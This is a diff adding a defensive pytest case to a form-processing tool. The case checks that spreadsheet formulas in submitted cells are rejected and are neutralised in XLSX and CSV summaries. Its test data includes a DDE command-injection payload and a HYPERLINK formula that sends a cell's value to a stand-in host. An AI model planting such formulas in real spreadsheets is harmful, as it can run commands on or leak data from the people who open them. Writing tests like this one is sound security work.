@@ -1,13 +1,18 @@
 """Forms that departments hand in: whatever acts in them is told where they are checked, and runs nowhere; sizes and lies end soon."""
 
+import csv
+import io
+import json
 import re
 import time
 from collections.abc import Callable
 from pathlib import Path
 
+import openpyxl
 import pytest
 
 from generator.api import Standard, load_standard
+from generator.cli import run
 from generator.diagnostics import Diagnostic, Invalid, Severity
 from tests.security.attacks import parts_of, with_relation
 
@@ -65,6 +70,34 @@ REFUSED = {
     "missing-value",
     "computed-blank",
 }  # a column, the last two: what a merged area covers
+
+
+@pytest.mark.parametrize("text", ["cmd|'/c calc'!A0", 'HYPERLINK("http://x/"&B3,"点")'])
+def it_takes_no_formula_for_an_answer_and_carries_none_into_a_summary(text, form, tmp_path, monkeypatch, capsys):
+    """A formula in a cell that is filled in is an error there; the same typed as text stays text in the summary, and its CSV none."""
+    monkeypatch.chdir(tmp_path)
+    Path("报送").mkdir()
+    for name, kind in (("公式", "f"), ("文字", "s")):
+        book = openpyxl.load_workbook(io.BytesIO(form))
+        cell = book["填报"]["C13"]
+        assert "石峰区" in cell.value  # the unit's name
+        cell.value, cell.data_type = f"={text}", kind
+        book.save(f"报送/{name}.xlsx")
+    assert run(["check", "报送/公式.xlsx", "--format", "json"]) == 1
+    errors = [one for one in json.loads(capsys.readouterr().out)["diagnostics"] if one["severity"] == "error"]
+    assert [(one["code"], one["place"]) for one in errors] == [("form-formula", f"填报!{cell.coordinate}")]
+    assert run(["collect", "shifeng-2020", "报送", "-o", "汇总.xlsx"]) == 1
+    summary = openpyxl.load_workbook("汇总.xlsx")
+    cells = [cell for sheet in summary for row in sheet.iter_rows() for cell in row]
+    assert f"={text}" in {cell.value for cell in cells}
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f" and text in str(cell.value)]
+    assert run(["collect", "shifeng-2020", "报送", "-o", "汇总.csv"]) == 1
+    assert not [
+        cell
+        for row in csv.reader(io.StringIO(Path("汇总.csv").read_text("utf-8-sig")))
+        for cell in row
+        if cell[:1] == "="
+    ]
 
 
 def many(each: bytes, count: int) -> bytes:
